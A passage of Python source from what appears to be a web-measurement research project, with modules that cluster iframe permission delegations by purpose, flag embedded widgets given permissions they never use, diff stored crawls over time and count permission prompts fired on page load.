                <= _PURPOSE_FEATURES[DelegationPurpose.MULTIMEDIA]):
            return DelegationPurpose.CUSTOMER_SUPPORT
        return DelegationPurpose.MULTI_PURPOSE
    return max(scores, key=lambda purpose: scores[purpose])


@dataclass
class PurposeCluster:
    """One purpose bucket with its member embedded sites."""

    purpose: DelegationPurpose
    sites: list[tuple[str, int]]            # (embedded site, # websites)

    @property
    def total_websites(self) -> int:
        return sum(count for _, count in self.sites)


def purpose_clusters(visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
                     *, min_websites: int = 2) -> list[PurposeCluster]:
    """Cluster every delegated embedded site by purpose.

    Args:
        visits: Crawl records (or a prebuilt
            :class:`~repro.analysis.index.DatasetIndex`).
        min_websites: Ignore embedded sites delegated on fewer websites
            (one-off noise).
    """
    index = as_index(visits)
    delegation = DelegationAnalysis(index)
    signatures: dict[str, Counter] = {}
    for vi in index.visit_indexes:
        top_site = vi.top.site
        for frame in vi.direct_embedded:
            if frame.is_local or not frame.site:
                continue
            if frame.site == top_site:
                continue
            attribute = vi.allow_by_frame.get(frame.frame_id)
            if attribute is None:
                continue
            delegated = attribute.delegated_features
            if delegated:
                signatures.setdefault(frame.site, Counter()).update(delegated)

    buckets: dict[DelegationPurpose, list[tuple[str, int]]] = {}
    for site, signature in signatures.items():
        websites = delegation.delegated_site_websites.get(site, 0)
        if websites < min_websites:
            continue
        purpose = classify_delegation_signature(signature)
        buckets.setdefault(purpose, []).append((site, websites))

    clusters = [PurposeCluster(purpose, sorted(sites, key=lambda sc: -sc[1]))
                for purpose, sites in buckets.items()]
    clusters.sort(key=lambda cluster: -cluster.total_websites)
    return clusters
