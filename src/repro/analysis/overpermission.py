"""Over-permissioned iframe detection (paper Section 5, Tables 10 and 13).

Threat model: a widely embedded widget that is routinely delegated
permissions it never uses.  If the widget's infrastructure is compromised
(a supply-chain attack), those standing delegations let the attacker use
the permissions across every embedding website — silently where a grant
already exists.

Detection, exactly as the paper describes:

1. For each embedded origin, collect every delegated permission that
   appears in **at least 5 %** of that origin's iframe occurrences — the
   prevalence threshold filters one-off delegations.
2. Independently collect all permission-related *activity* of that origin's
   documents: dynamic invocations, status checks, and static functionality
   in any of its loaded scripts (including dynamically created ones).
3. A delegated permission with no recorded activity anywhere is flagged
   **potentially unused**; every website delegating it to the widget is
   affected.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.crawler.records import SiteVisit
from repro.registry.features import PermissionRegistry


@dataclass(frozen=True)
class OverPermissionRow:
    """One row of Table 10 / 13."""

    site: str
    unused_permissions: tuple[str, ...]
    affected_websites: int


@dataclass(frozen=True)
class WidgetDelegationProfile:
    """Observed delegation behaviour of one embedded site."""

    site: str
    occurrences: int
    occurrences_with_delegation: int
    #: permission -> number of occurrences delegating it
    delegation_counts: dict[str, int]
    observed_activity: frozenset[str]

    @property
    def delegation_rate(self) -> float:
        if not self.occurrences:
            return 0.0
        return self.occurrences_with_delegation / self.occurrences

    def prevalent_delegations(self, threshold: float) -> tuple[str, ...]:
        floor = threshold * self.occurrences
        return tuple(sorted(
            permission for permission, count in self.delegation_counts.items()
            if count >= floor and count > 0))


class OverPermissionAnalysis:
    """Runs the Section 5 detector over a crawl."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]", *,
                 prevalence_threshold: float = 0.05,
                 registry: PermissionRegistry | None = None) -> None:
        self._index = as_index(visits, registry)
        self._registry = self._index.registry
        self.prevalence_threshold = prevalence_threshold

        self._occurrences: Counter[str] = Counter()
        self._delegated_occurrences: Counter[str] = Counter()
        self._delegation_counts: dict[str, Counter[str]] = defaultdict(Counter)
        self._activity: dict[str, set[str]] = defaultdict(set)
        #: (embedded site, permission) -> set of website ranks delegating it
        self._delegating_websites: dict[tuple[str, str], set[int]] = \
            defaultdict(set)

        # A streaming index feeds _aggregate_visit per visit instead.
        if not self._index.streaming:
            self._run()

    @property
    def _visits(self) -> list:
        return self._index.visits

    # -- aggregation --------------------------------------------------------------

    def _run(self) -> None:
        for vi in self._index.visit_indexes:
            self._aggregate_visit(vi)

    def _aggregate_visit(self, vi: VisitIndex) -> None:
        visit = vi.visit
        top_site = vi.top.site
        frames = vi.frames_by_id

        for frame in visit.frames:
            if frame.is_top_level or frame.is_local:
                continue
            if not frame.site or frame.site == top_site:
                continue
            self._occurrences[frame.site] += 1
            attribute = vi.allow_by_frame.get(frame.frame_id)
            delegated: tuple[str, ...] = ()
            if attribute is not None:
                delegated = attribute.delegated_features
            if delegated:
                self._delegated_occurrences[frame.site] += 1
            for permission in delegated:
                self._delegation_counts[frame.site][permission] += 1
                self._delegating_websites[(frame.site, permission)].add(
                    visit.rank)

        # Activity: dynamic calls and static functionality inside each
        # embedded document, attributed to the document's site.
        for call in visit.calls:
            frame = frames[call.frame_id]
            if frame.is_top_level or not frame.site or frame.site == top_site:
                continue
            for permission in call.permissions:
                self._activity[frame.site].add(permission)
        for script in visit.scripts:
            frame = frames[script.frame_id]
            if frame.is_top_level or not frame.site or frame.site == top_site:
                continue
            permissions, _general = self._index.static(script.source)
            self._activity[frame.site] |= permissions

    # -- process-parallel summarize support ------------------------------------

    def _partial_state(self) -> dict:
        """Picklable additive state for one aggregated rank span (plain
        dicts/sets, no defaultdict factories)."""
        return {
            "occurrences": dict(self._occurrences),
            "delegated_occurrences": dict(self._delegated_occurrences),
            "delegation_counts": {site: dict(counter) for site, counter
                                  in self._delegation_counts.items()},
            "activity": {site: set(permissions) for site, permissions
                         in self._activity.items()},
            "delegating_websites": {key: set(ranks) for key, ranks
                                    in self._delegating_websites.items()},
        }

    def _merge_partial(self, state: dict) -> None:
        """Fold one rank span's partial in (spans in rank order, so the
        ``_delegation_counts`` insertion order that drives
        :meth:`unused_delegations` row order matches a serial pass)."""
        for site, count in state["occurrences"].items():
            self._occurrences[site] += count
        for site, count in state["delegated_occurrences"].items():
            self._delegated_occurrences[site] += count
        for site, counts in state["delegation_counts"].items():
            mine = self._delegation_counts[site]
            for permission, count in counts.items():
                mine[permission] += count
        for site, permissions in state["activity"].items():
            self._activity[site] |= permissions
        for key, ranks in state["delegating_websites"].items():
            self._delegating_websites[key] |= ranks

    # -- results ---------------------------------------------------------------------

    def profile_for(self, site: str) -> WidgetDelegationProfile:
        return WidgetDelegationProfile(
            site=site,
            occurrences=self._occurrences.get(site, 0),
            occurrences_with_delegation=self._delegated_occurrences.get(site, 0),
            delegation_counts=dict(self._delegation_counts.get(site, {})),
            observed_activity=frozenset(self._activity.get(site, set())),
        )

    def _observable(self, permission: str) -> bool:
        """Only instrumented permissions can be declared unused — absence
        of evidence requires the instrumentation to be able to see usage."""
        perm = self._registry.maybe(permission)
        return perm is not None and perm.instrumented

    def unused_delegations(self) -> list[OverPermissionRow]:
        """All embedded sites with prevalent-but-unused delegations, ranked
        by affected websites (Tables 10 and 13)."""
        rows: list[OverPermissionRow] = []
        for site in self._delegation_counts:
            profile = self.profile_for(site)
            prevalent = profile.prevalent_delegations(
                self.prevalence_threshold)
            unused = tuple(permission for permission in prevalent
                           if self._observable(permission)
                           and permission not in profile.observed_activity)
            if not unused:
                continue
            affected: set[int] = set()
            for permission in unused:
                affected |= self._delegating_websites[(site, permission)]
            rows.append(OverPermissionRow(
                site=site, unused_permissions=unused,
                affected_websites=len(affected)))
        rows.sort(key=lambda row: row.affected_websites, reverse=True)
        return rows

    def table(self, top_n: int = 10) -> list[OverPermissionRow]:
        return self.unused_delegations()[:top_n]

    def total_affected_websites(self) -> int:
        """Websites embedding at least one over-permissioned document
        (36,307 in the paper)."""
        affected: set[int] = set()
        for row in self.unused_delegations():
            for permission in row.unused_permissions:
                affected |= self._delegating_websites[(row.site, permission)]
        return len(affected)

    # -- the Section 5.2 case study -------------------------------------------------------

    def case_study(self, site: str = "livechatinc.com") -> dict:
        """The LiveChat-style case-study numbers for one embedded site."""
        profile = self.profile_for(site)
        prevalent = profile.prevalent_delegations(self.prevalence_threshold)
        unused = tuple(p for p in prevalent
                       if self._observable(p)
                       and p not in profile.observed_activity)
        embedding_websites: set[int] = set()
        overpermissioned: set[int] = set()
        for (candidate, permission), ranks in self._delegating_websites.items():
            if candidate == site:
                embedding_websites |= ranks
                if permission in unused:
                    overpermissioned |= ranks
        return {
            "site": site,
            "occurrences": profile.occurrences,
            "delegation_rate": profile.delegation_rate,
            "prevalent_delegations": prevalent,
            "observed_activity": tuple(sorted(profile.observed_activity)),
            "unused_delegations": unused,
            "websites_with_delegation": len(embedding_websites),
            "overpermissioned_websites": len(overpermissioned),
        }
