"""Longitudinal drift: diff stored crawls and fold eras into a timeline.

The paper's Fig. 2 is a *longitudinal* claim — Feature-Policy fades while
Permissions-Policy rises between Kaleli et al.'s 2020 measurement and the
2024 crawl.  :mod:`repro.synthweb.eras` generates era-calibrated webs and
:mod:`repro.crawler.storage` keeps integrity-checked crawls; this module
closes the loop by *comparing* them:

* :func:`diff_stores` — merge-join two stores' rank-ordered
  ``iter_visits()`` streams into per-site **added / removed / changed**
  sets plus before/after :class:`StoreMetrics` (header adoption,
  delegation shares, allow-attribute feature mix, over-permission
  verdicts).  Neither store is ever materialized: each visit is folded
  into a streaming profile and reduced to a small
  :class:`SiteSignature`, so memory is bounded by the *difference*, not
  the crawl size.
* :func:`build_timeline` — fold N era stores into a
  :class:`DriftTimeline`: one streaming profile pass per store and a
  per-metric series with absolute and relative deltas.

Every result type is a frozen dataclass with a field-stable
``to_json()``, so diffs can be persisted and compared across runs.
Rendering (text tables + the zero-dependency HTML dashboard) lives in
:mod:`repro.analysis.drift_report`.

Design notes:

* Sites are keyed on ``(rank, site)``: a rank present in exactly one
  store is added/removed; a rank present in both but pointing at a
  different site counts as one removal plus one addition (the slot
  changed hands, nothing about the old site "changed").
* Profiles reuse the PR 6/7 streaming protocol —
  :class:`~repro.analysis.index.IncrementalIndex` feeding each
  analysis's ``_aggregate_visit`` — the same bounded-memory path
  ``summarize_streaming`` uses, so a 100k-site store diffs in the same
  RSS envelope it crawls in (gated in ``benchmarks/bench_perf_drift.py``).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Iterable, Sequence, Union

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.index import IncrementalIndex
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.crawler.storage import CrawlStore
from repro.obs import metrics as _metrics
from repro.obs.tracing import TRACER
from repro.policy.allow_attr import DelegationDirectiveKind, parse_allow_attribute

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.crawler.records import SiteVisit
    from repro.registry.permissions import PermissionRegistry

#: Anything the diff/timeline entry points accept as a store.
StoreLike = Union[CrawlStore, str, Path]

#: Scalar :class:`StoreMetrics` fields tracked as drift metrics, in
#: report order.  ``*_share`` fields render as percentages.
DRIFT_METRICS: tuple[str, ...] = (
    "attempted_sites",
    "successful_sites",
    "pp_top_level_share",
    "fp_top_level_share",
    "any_header_top_level_share",
    "both_header_sites",
    "pp_all_docs_share",
    "fp_all_docs_share",
    "share_sites_delegating",
    "share_sites_delegating_external",
    "directive_share_default_src",
    "directive_share_star",
    "overpermission_flagged_widgets",
    "overpermission_affected_websites",
)

#: Signature fields compared to classify a site as "changed" (``rank`` and
#: ``site`` are the join key, so they are excluded by construction).
SIGNATURE_FIELDS: tuple[str, ...] = (
    "success", "failure", "has_pp_header", "has_fp_header",
    "delegated_features", "frames")


# ---------------------------------------------------------------------------
# Per-site signatures.


@dataclass(frozen=True)
class SiteSignature:
    """The drift-relevant fingerprint of one visit.

    Deliberately small: diffing two 100k-site stores keeps only the
    signatures of sites that actually differ, never the visits.
    """

    rank: int
    site: str
    success: bool
    failure: str | None
    has_pp_header: bool
    has_fp_header: bool
    delegated_features: tuple[str, ...]
    frames: int

    def to_json(self) -> dict:
        return {
            "rank": self.rank,
            "site": self.site,
            "success": self.success,
            "failure": self.failure,
            "has_pp_header": self.has_pp_header,
            "has_fp_header": self.has_fp_header,
            "delegated_features": list(self.delegated_features),
            "frames": self.frames,
        }


def site_signature(visit: "SiteVisit") -> SiteSignature:
    """Build one visit's :class:`SiteSignature`.

    Uses the same primitives as the indexed analyses (lowercased header
    keys, interned :func:`parse_allow_attribute`, depth-1 frames only),
    so a signature computed from a streamed visit is identical to one
    computed from a materialized dataset — asserted field-by-field in
    ``tests/test_drift.py``.
    """
    top = None
    frame_count = 0
    delegated: set[str] = set()
    for frame in visit.frames:
        frame_count += 1
        if top is None and frame.parent_id is None:
            top = frame
        if frame.depth == 1:
            attrs = frame.iframe_attributes
            raw = attrs.get("allow") if attrs else None
            if raw:
                delegated.update(parse_allow_attribute(raw).delegated_features)
    if top is not None:
        site = top.site
        has_pp = top.headers.get("permissions-policy") is not None
        has_fp = top.headers.get("feature-policy") is not None
    else:
        # Failed visits carry no frames; the requested URL still
        # identifies the slot so rank collisions surface as site changes.
        site = visit.requested_url
        has_pp = has_fp = False
    return SiteSignature(
        rank=visit.rank, site=site, success=visit.success,
        failure=visit.failure, has_pp_header=has_pp, has_fp_header=has_fp,
        delegated_features=tuple(sorted(delegated)), frames=frame_count)


@dataclass(frozen=True)
class SiteDelta:
    """One site present in both crawls whose signature changed."""

    rank: int
    site: str
    changed_fields: tuple[str, ...]
    before: SiteSignature
    after: SiteSignature

    def to_json(self) -> dict:
        return {
            "rank": self.rank,
            "site": self.site,
            "changed_fields": list(self.changed_fields),
            "before": self.before.to_json(),
            "after": self.after.to_json(),
        }


# ---------------------------------------------------------------------------
# Aggregate store metrics (one bounded-memory streaming pass per store).


@dataclass(frozen=True)
class StoreMetrics:
    """Aggregate drift metrics of one stored crawl.

    Share conventions match :mod:`repro.synthweb.eras` /
    :class:`~repro.analysis.headers.AdoptionFigures`:
    ``pp_top_level_share`` is document-weighted (Fig. 2), while the
    ``fp``/``any``/``both`` top-level figures count *sites* over weighted
    top-level documents — the same denominators
    :func:`~repro.synthweb.eras.measure_era` reports, so era stores and
    era measurements agree exactly.
    """

    label: str
    attempted_sites: int
    successful_sites: int
    top_level_documents: int
    pp_top_level_share: float
    fp_top_level_share: float
    any_header_top_level_share: float
    both_header_sites: int
    pp_all_docs_share: float
    fp_all_docs_share: float
    share_sites_delegating: float
    share_sites_delegating_external: float
    directive_share_default_src: float
    directive_share_star: float
    #: External delegated-feature mix, ``(feature, share_of_delegations)``
    #: sorted by descending share then name — deterministic by design.
    allow_feature_mix: tuple[tuple[str, float], ...]
    overpermission_flagged_widgets: int
    overpermission_affected_websites: int

    def to_json(self) -> dict:
        return {
            "label": self.label,
            "attempted_sites": self.attempted_sites,
            "successful_sites": self.successful_sites,
            "top_level_documents": self.top_level_documents,
            "pp_top_level_share": self.pp_top_level_share,
            "fp_top_level_share": self.fp_top_level_share,
            "any_header_top_level_share": self.any_header_top_level_share,
            "both_header_sites": self.both_header_sites,
            "pp_all_docs_share": self.pp_all_docs_share,
            "fp_all_docs_share": self.fp_all_docs_share,
            "share_sites_delegating": self.share_sites_delegating,
            "share_sites_delegating_external":
                self.share_sites_delegating_external,
            "directive_share_default_src": self.directive_share_default_src,
            "directive_share_star": self.directive_share_star,
            "allow_feature_mix": [[feature, share]
                                  for feature, share in self.allow_feature_mix],
            "overpermission_flagged_widgets":
                self.overpermission_flagged_widgets,
            "overpermission_affected_websites":
                self.overpermission_affected_websites,
        }


class _StoreProfile:
    """Streaming fold of one crawl into :class:`StoreMetrics`.

    One :class:`~repro.analysis.index.IncrementalIndex` feeds each
    analysis's ``_aggregate_visit`` — the ``summarize_streaming``
    protocol — plus the handful of site-keyed header counters the
    analyses do not track (FP / either / both on top frames)."""

    def __init__(self, registry: "PermissionRegistry | None" = None) -> None:
        self._index = IncrementalIndex(registry=registry)
        self._headers = HeaderAnalysis(self._index)
        self._delegation = DelegationAnalysis(self._index)
        self._overpermission = OverPermissionAnalysis(self._index)
        self.attempted = 0
        self.successful = 0
        self._pp_sites = 0
        self._fp_sites = 0
        self._any_header_sites = 0
        self._both_header_sites = 0

    def add(self, visit: "SiteVisit") -> SiteSignature:
        signature = site_signature(visit)
        self.attempted += 1
        vi = self._index.add(visit)
        if vi is not None:
            self.successful += 1
            self._headers._aggregate_visit(vi)
            self._delegation._aggregate_visit(vi)
            self._overpermission._aggregate_visit(vi)
            if signature.has_pp_header:
                self._pp_sites += 1
            if signature.has_fp_header:
                self._fp_sites += 1
            if signature.has_pp_header or signature.has_fp_header:
                self._any_header_sites += 1
            if signature.has_pp_header and signature.has_fp_header:
                self._both_header_sites += 1
        return signature

    def finish(self, label: str) -> StoreMetrics:
        headers = self._headers
        delegation = self._delegation
        adoption = headers.adoption()
        top_docs = headers.top_level_documents
        kinds = delegation.directive_distribution()
        total_delegations = delegation.total_external_delegations()
        mix = tuple(sorted(
            ((feature, count / total_delegations)
             for feature, count in delegation._permission_delegations.items()),
            key=lambda pair: (-pair[1], pair[0])))
        flagged = self._overpermission.unused_delegations()
        return StoreMetrics(
            label=label,
            attempted_sites=self.attempted,
            successful_sites=self.successful,
            top_level_documents=top_docs,
            pp_top_level_share=adoption.pp_top_level_share,
            fp_top_level_share=self._fp_sites / top_docs if top_docs else 0.0,
            any_header_top_level_share=(
                self._any_header_sites / top_docs if top_docs else 0.0),
            both_header_sites=self._both_header_sites,
            pp_all_docs_share=adoption.pp_all_docs_share,
            fp_all_docs_share=adoption.fp_all_docs_share,
            share_sites_delegating=delegation.share_sites_delegating,
            share_sites_delegating_external=(
                delegation.share_sites_delegating_external),
            directive_share_default_src=kinds.get(
                DelegationDirectiveKind.DEFAULT_SRC, 0.0),
            directive_share_star=kinds.get(DelegationDirectiveKind.STAR, 0.0),
            allow_feature_mix=mix,
            overpermission_flagged_widgets=len(flagged),
            overpermission_affected_websites=(
                self._overpermission.total_affected_websites()),
        )


def _coerce_store(store: StoreLike) -> tuple[CrawlStore, bool]:
    """An open store plus whether *we* opened it (and must close it)."""
    if isinstance(store, (str, Path)):
        return CrawlStore(store), True
    return store, False


def _default_label(store: StoreLike, position: int) -> str:
    if isinstance(store, (str, Path)):
        return Path(store).stem
    return f"store-{position}"


def profile_visits(visits: "Iterable[SiteVisit]", *, label: str = "dataset",
                   registry: "PermissionRegistry | None" = None
                   ) -> StoreMetrics:
    """Fold any visit iterable (streamed or materialized) into metrics."""
    profile = _StoreProfile(registry)
    for visit in visits:
        profile.add(visit)
    return profile.finish(label)


def profile_store(store: StoreLike, *, label: str | None = None,
                  registry: "PermissionRegistry | None" = None
                  ) -> StoreMetrics:
    """One bounded-memory streaming pass over a store."""
    name = label if label is not None else _default_label(store, 0)
    handle, owned = _coerce_store(store)
    try:
        with TRACER.span("drift.profile", store=name):
            profile = _StoreProfile(registry)
            for visit in handle.iter_visits():
                profile.add(visit)
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("drift.sites_profiled").inc(
                    profile.attempted)
            return profile.finish(name)
    finally:
        if owned:
            handle.close()


# ---------------------------------------------------------------------------
# Metric deltas.


@dataclass(frozen=True)
class MetricDelta:
    """Before/after movement of one aggregate metric."""

    metric: str
    before: float
    after: float
    absolute: float
    #: ``absolute / before``; ``None`` when the baseline is zero (a metric
    #: appearing from nothing has no meaningful relative delta).
    relative: float | None

    def to_json(self) -> dict:
        return {
            "metric": self.metric,
            "before": self.before,
            "after": self.after,
            "absolute": self.absolute,
            "relative": self.relative,
        }


def _delta(metric: str, before: float, after: float) -> MetricDelta:
    absolute = after - before
    relative = absolute / before if before else None
    return MetricDelta(metric=metric, before=before, after=after,
                       absolute=absolute, relative=relative)


def metric_deltas(before: StoreMetrics,
                  after: StoreMetrics) -> tuple[MetricDelta, ...]:
    """Aggregate deltas over every :data:`DRIFT_METRICS` field."""
    return tuple(
        _delta(name, float(getattr(before, name)), float(getattr(after, name)))
        for name in DRIFT_METRICS)


# ---------------------------------------------------------------------------
# The crawl diff.


@dataclass(frozen=True)
class CrawlDiff:
    """Everything that moved between two stored crawls."""

    before: StoreMetrics
    after: StoreMetrics
    #: Ranks present only in ``after`` (plus rank slots whose site
    #: changed hands — see module notes), in rank order.
    added: tuple[SiteSignature, ...]
    #: Ranks present only in ``before``, in rank order.
    removed: tuple[SiteSignature, ...]
    #: Sites present in both whose signature differs, in rank order.
    changed: tuple[SiteDelta, ...]
    unchanged_sites: int

    @property
    def is_empty(self) -> bool:
        """True iff no site was added, removed or changed (self-diff)."""
        return not (self.added or self.removed or self.changed)

    @property
    def sites_compared(self) -> int:
        return self.unchanged_sites + len(self.changed)

    @property
    def deltas(self) -> tuple[MetricDelta, ...]:
        return metric_deltas(self.before, self.after)

    def to_json(self, *, max_site_rows: int | None = None) -> dict:
        """Field-stable JSON document; ``max_site_rows`` caps each of the
        added/removed/changed lists (full counts are always present)."""
        cap = slice(None) if max_site_rows is None else slice(max_site_rows)
        return {
            "before": self.before.to_json(),
            "after": self.after.to_json(),
            "is_empty": self.is_empty,
            "added_sites": len(self.added),
            "removed_sites": len(self.removed),
            "changed_sites": len(self.changed),
            "unchanged_sites": self.unchanged_sites,
            "added": [sig.to_json() for sig in self.added[cap]],
            "removed": [sig.to_json() for sig in self.removed[cap]],
            "changed": [delta.to_json() for delta in self.changed[cap]],
            "metric_deltas": [delta.to_json() for delta in self.deltas],
        }


def diff_visits(before: "Iterable[SiteVisit]", after: "Iterable[SiteVisit]",
                *, labels: Sequence[str] = ("before", "after"),
                registry: "PermissionRegistry | None" = None) -> CrawlDiff:
    """Diff two rank-ordered visit streams (the merge-join core).

    Both iterables must yield visits in strictly increasing rank order —
    exactly what :meth:`CrawlStore.iter_visits` produces.  Memory is
    bounded by the number of *differing* sites: unchanged sites are
    counted and dropped."""
    profile_a = _StoreProfile(registry)
    profile_b = _StoreProfile(registry)
    added: list[SiteSignature] = []
    removed: list[SiteSignature] = []
    changed: list[SiteDelta] = []
    unchanged = 0
    iter_a = iter(before)
    iter_b = iter(after)
    visit_a = next(iter_a, None)
    visit_b = next(iter_b, None)
    while visit_a is not None or visit_b is not None:
        if visit_b is None or (visit_a is not None
                               and visit_a.rank < visit_b.rank):
            removed.append(profile_a.add(visit_a))
            visit_a = next(iter_a, None)
            continue
        if visit_a is None or visit_b.rank < visit_a.rank:
            added.append(profile_b.add(visit_b))
            visit_b = next(iter_b, None)
            continue
        signature_a = profile_a.add(visit_a)
        signature_b = profile_b.add(visit_b)
        if signature_a.site != signature_b.site:
            removed.append(signature_a)
            added.append(signature_b)
        elif signature_a == signature_b:
            unchanged += 1
        else:
            fields = tuple(name for name in SIGNATURE_FIELDS
                           if getattr(signature_a, name)
                           != getattr(signature_b, name))
            changed.append(SiteDelta(
                rank=signature_a.rank, site=signature_a.site,
                changed_fields=fields, before=signature_a,
                after=signature_b))
        visit_a = next(iter_a, None)
        visit_b = next(iter_b, None)
    if _metrics.COUNTING:
        counters = _metrics.REGISTRY
        counters.counter("drift.sites_added").inc(len(added))
        counters.counter("drift.sites_removed").inc(len(removed))
        counters.counter("drift.sites_changed").inc(len(changed))
        counters.counter("drift.sites_unchanged").inc(unchanged)
    return CrawlDiff(
        before=profile_a.finish(str(labels[0])),
        after=profile_b.finish(str(labels[1])),
        added=tuple(added), removed=tuple(removed), changed=tuple(changed),
        unchanged_sites=unchanged)


def diff_stores(before: StoreLike, after: StoreLike, *,
                labels: Sequence[str] | None = None,
                registry: "PermissionRegistry | None" = None) -> CrawlDiff:
    """Diff two stored crawls via their streaming ``iter_visits()``."""
    if labels is None:
        labels = (_default_label(before, 0), _default_label(after, 1))
    store_a, owned_a = _coerce_store(before)
    store_b, owned_b = _coerce_store(after)
    try:
        with TRACER.span("drift.diff", before=str(labels[0]),
                         after=str(labels[1])):
            return diff_visits(store_a.iter_visits(), store_b.iter_visits(),
                               labels=labels, registry=registry)
    finally:
        if owned_a:
            store_a.close()
        if owned_b:
            store_b.close()


# ---------------------------------------------------------------------------
# The timeline (N-era fold).


@dataclass(frozen=True)
class MetricSeries:
    """One metric's trajectory across the timeline's crawls."""

    metric: str
    values: tuple[float, ...]
    #: Step deltas: ``values[i+1] - values[i]`` (one shorter than values).
    absolute_deltas: tuple[float, ...]
    #: Step deltas relative to each step's baseline; ``None`` on zero.
    relative_deltas: tuple["float | None", ...]

    @property
    def total_delta(self) -> float:
        return self.values[-1] - self.values[0] if self.values else 0.0

    def to_json(self) -> dict:
        return {
            "metric": self.metric,
            "values": list(self.values),
            "absolute_deltas": list(self.absolute_deltas),
            "relative_deltas": list(self.relative_deltas),
            "total_delta": self.total_delta,
        }


@dataclass(frozen=True)
class DriftTimeline:
    """N crawls folded into per-metric drift series."""

    labels: tuple[str, ...]
    metrics: tuple[StoreMetrics, ...]
    series: tuple[MetricSeries, ...]

    def series_for(self, metric: str) -> MetricSeries:
        for entry in self.series:
            if entry.metric == metric:
                return entry
        raise KeyError(metric)

    def to_json(self) -> dict:
        return {
            "labels": list(self.labels),
            "metrics": [metrics.to_json() for metrics in self.metrics],
            "series": [series.to_json() for series in self.series],
        }


def timeline_from_metrics(profiles: Sequence[StoreMetrics],
                          labels: Sequence[str] | None = None
                          ) -> DriftTimeline:
    """Assemble a timeline from already-computed store profiles."""
    if len(profiles) < 2:
        raise ValueError("a drift timeline needs at least two crawls")
    if labels is None:
        labels = tuple(profile.label for profile in profiles)
    if len(labels) != len(profiles):
        raise ValueError(
            f"{len(labels)} labels for {len(profiles)} crawls")
    series = []
    for name in DRIFT_METRICS:
        values = tuple(float(getattr(profile, name)) for profile in profiles)
        steps = tuple(zip(values, values[1:]))
        series.append(MetricSeries(
            metric=name,
            values=values,
            absolute_deltas=tuple(b - a for a, b in steps),
            relative_deltas=tuple(
                (b - a) / a if a else None for a, b in steps)))
    return DriftTimeline(labels=tuple(str(label) for label in labels),
                         metrics=tuple(profiles), series=tuple(series))


def build_timeline(stores: Iterable[StoreLike], *,
                   labels: Sequence[str] | None = None,
                   registry: "PermissionRegistry | None" = None
                   ) -> DriftTimeline:
    """Fold N era stores (oldest first) into a :class:`DriftTimeline`.

    One streaming profile pass per store; memory never holds more than
    one visit plus the running aggregates."""
    store_list = list(stores)
    if labels is None:
        labels = tuple(_default_label(store, position)
                       for position, store in enumerate(store_list))
    if len(labels) != len(store_list):
        raise ValueError(f"{len(labels)} labels for {len(store_list)} stores")
    profiles = tuple(
        profile_store(store, label=str(label), registry=registry)
        for store, label in zip(store_list, labels))
    return timeline_from_metrics(profiles, labels)
