"""Prompt pressure: which sites interrupt users on load.

The paper's Section 7 cites a line of prompt-UX work (unwanted
notification interruptions, prompt quieting); its own pipeline records
every prompt a visit would trigger but does not analyse them.  This module
does: prompts fired *without any user gesture* — the page had barely
loaded and already asked for a powerful permission — per permission, per
requesting context, and whether the prompt text names the embedded
document (only ``storage-access`` does, Section 2.2.5).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from repro.crawler.records import SiteVisit


@dataclass
class PromptPressureReport:
    """On-load prompt statistics for one crawl."""

    sites_prompting_on_load: int = 0
    total_prompts: int = 0
    prompts_by_permission: Counter = field(default_factory=Counter)
    prompts_from_embedded: int = 0
    prompts_naming_embedded_site: int = 0

    def share_of(self, site_count: int) -> float:
        return (self.sites_prompting_on_load / site_count
                if site_count else 0.0)

    @property
    def embedded_share(self) -> float:
        if not self.total_prompts:
            return 0.0
        return self.prompts_from_embedded / self.total_prompts


class PromptAnalysis:
    """Aggregates recorded prompts across visits."""

    def __init__(self, visits: Iterable[SiteVisit]) -> None:
        self.report = PromptPressureReport()
        self._site_count = 0
        for visit in visits:
            if visit.success:
                self._site_count += 1
                self._aggregate(visit)

    def _aggregate(self, visit: SiteVisit) -> None:
        if not visit.prompts:
            return
        report = self.report
        report.sites_prompting_on_load += 1
        top_site = visit.top_frame.site
        frames = {frame.frame_id: frame for frame in visit.frames}
        for prompt in visit.prompts:
            report.total_prompts += 1
            report.prompts_by_permission[prompt.permission] += 1
            frame = frames.get(prompt.requesting_frame_id)
            if frame is not None and not frame.is_top_level:
                report.prompts_from_embedded += 1
            if prompt.display_site and prompt.display_site != top_site:
                # Only storage-access prompts name the embedded document.
                report.prompts_naming_embedded_site += 1

    @property
    def prompting_share(self) -> float:
        """Share of successful sites that would interrupt a fresh visitor
        before any interaction."""
        return self.report.share_of(self._site_count)

    def top_offenders(self, top_n: int = 5) -> list[tuple[str, int]]:
        return self.report.prompts_by_permission.most_common(top_n)
