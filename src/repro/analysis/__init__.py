"""Measurement analysis pipeline.

Consumes :class:`~repro.crawler.pool.CrawlDataset` records and reproduces
every aggregate of the paper's Section 4 and 5:

* :mod:`repro.analysis.parties` — first-/third-party classification;
* :mod:`repro.analysis.usage` — dynamic invocations, status checks and
  static detections (Tables 4, 5, 6);
* :mod:`repro.analysis.delegation` — embedded sites and ``allow``
  delegation (Tables 3, 7, 8 and the directive distribution);
* :mod:`repro.analysis.headers` — header adoption, directive strictness
  and misconfigurations (Figure 2, Table 9);
* :mod:`repro.analysis.overpermission` — unused delegated permissions
  (Tables 10/13, the LiveChat case study);
* :mod:`repro.analysis.summary` — the Section 4 headline numbers;
* :mod:`repro.analysis.categories` — purpose clustering of delegations
  (Section 4.2.1);
* :mod:`repro.analysis.proposals` — quantifying the Section 6.2 spec
  proposals (deny-all default, local-scheme fix exposure);
* :mod:`repro.analysis.fingerprinting` — the permission-list
  fingerprinting surface hypothesised in Section 4.1.1;
* :mod:`repro.analysis.report` — text rendering and paper-vs-measured
  comparison helpers;
* :mod:`repro.analysis.drift` — longitudinal crawl diffs and the N-era
  drift timeline (DESIGN.md §4i), rendered by
  :mod:`repro.analysis.drift_report`.
"""

from repro.analysis.categories import DelegationPurpose, purpose_clusters
